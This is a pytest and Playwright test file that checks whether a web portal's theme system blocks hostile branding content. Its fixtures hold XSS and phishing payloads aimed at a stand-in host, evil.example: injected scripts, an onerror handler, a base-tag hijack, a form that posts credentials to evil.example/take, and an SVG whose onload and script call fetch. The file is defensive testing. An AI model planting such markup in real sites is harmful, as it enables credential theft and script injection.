"""What stands behind the judges of brands, in a real browser: policies that hold even for what got past (UP-01)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from threading import Thread

import pytest
from flask import Flask
from playwright.sync_api import Browser, Page
from werkzeug.serving import make_server

from tests.databases import free_port
from tests.factories import PASSWORD, make_agency, make_app, make_client, make_contributor

EVIL = "https://evil.example"
LOGIN = f"""
<style>.mine {{ color: rgb(1, 2, 3) }}</style>
<script>document.title = "taken over"</script>
<script src="{EVIL}/x.js"></script>
<script src="/brand/x.js"></script>
<img src="{EVIL}/seen.png" alt="" onerror="document.title = 'taken over'">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{EVIL}/">
<iframe src="{EVIL}/" title="x"></iframe>
<form action="{EVIL}/take" method="post" id="theirs"><h1 class="mine">{{{{ headline }}}}</h1>{{{{ form }}}}</form>
"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"
  onload="document.documentElement.id = 'ran'">
<script>document.documentElement.id = "ran"; fetch("{EVIL}/")</script>
<style>@import "{EVIL}/x.css";</style>
<image href="{EVIL}/x.png" width="9" height="9"/><use href="{EVIL}/x.svg#a"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/"/></foreignObject>
</svg>"""


@pytest.fixture
def served(app: Flask, themes: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The application of the tests behind a real port: the address of Aurora's host."""
    port = free_port()
    settings = app.config["SETTINGS"].model_copy(update={"port": port, "public_url": f"http://localhost:{port}"})
    monkeypatch.setitem(app.config, "SETTINGS", settings)
    client = make_client(make_agency("aurora", "Aurora"), "Cantina")
    make_contributor(make_app(client), ["menus"], email="carla@cantina.example")
    server = make_server("127.0.0.1", port, app, threaded=True)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://aurora.localhost:{port}"
    server.shutdown()
    thread.join()


@pytest.fixture
def opened(chromium: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and every address outside that it asked for or wanted to send something to."""
    context = chromium.new_context(ignore_https_errors=True)
    asked: list[str] = []
    context.route(re.compile("evil"), lambda route: (asked.append(route.request.url), route.abort()))
    yield context.new_page(), asked
    context.close()


def sign_in(page: Page) -> None:
    page.fill("#f-email", "carla@cantina.example")
    page.fill("#f-password", PASSWORD)
    page.click("#sign-in button")


def test_a_themes_page_runs_no_script_and_sends_its_form_nowhere_else(served, opened, themes):
    page, asked = opened
    (themes / "aurora" / "login.html").write_text(LOGIN)
    page.goto(f"{served}/sign-in")
    assert page.locator("h1.mine").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"
    assert "taken over" not in page.title()
    page.fill("#f-email", "carla@cantina.example")
    page.fill("#f-password", PASSWORD)
    page.evaluate("document.querySelector('#theirs').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.url == f"{served}/sign-in" and not asked


def test_a_themes_page_signs_people_in(served, opened, themes):
    page, _ = opened
    (themes / "aurora" / "login.html").write_text("<h1>{{ headline }}</h1>{{ form }}")
    page.goto(f"{served}/sign-in")
    sign_in(page)
    page.wait_for_url(re.compile("/office/"))


def test_a_drawing_that_got_past_the_judge_runs_nothing_and_asks_for_nothing(served, opened, themes, monkeypatch):
    page, asked = opened
    monkeypatch.setattr("portal.domain.branding.pictures._check_drawing", lambda *_: None)
    (themes / "aurora" / "icon.svg").write_text(DRAWING)
    page.goto(f"{served}/sign-in")
    base = page.locator("link[rel=icon]").get_attribute("href").rpartition("/")[0]
    page.goto(f"{served}{base}/icon.svg")
    page.wait_for_timeout(300)
    assert page.evaluate("document.documentElement.tagName") == "svg"
    assert page.evaluate("document.documentElement.id") != "ran" and not asked
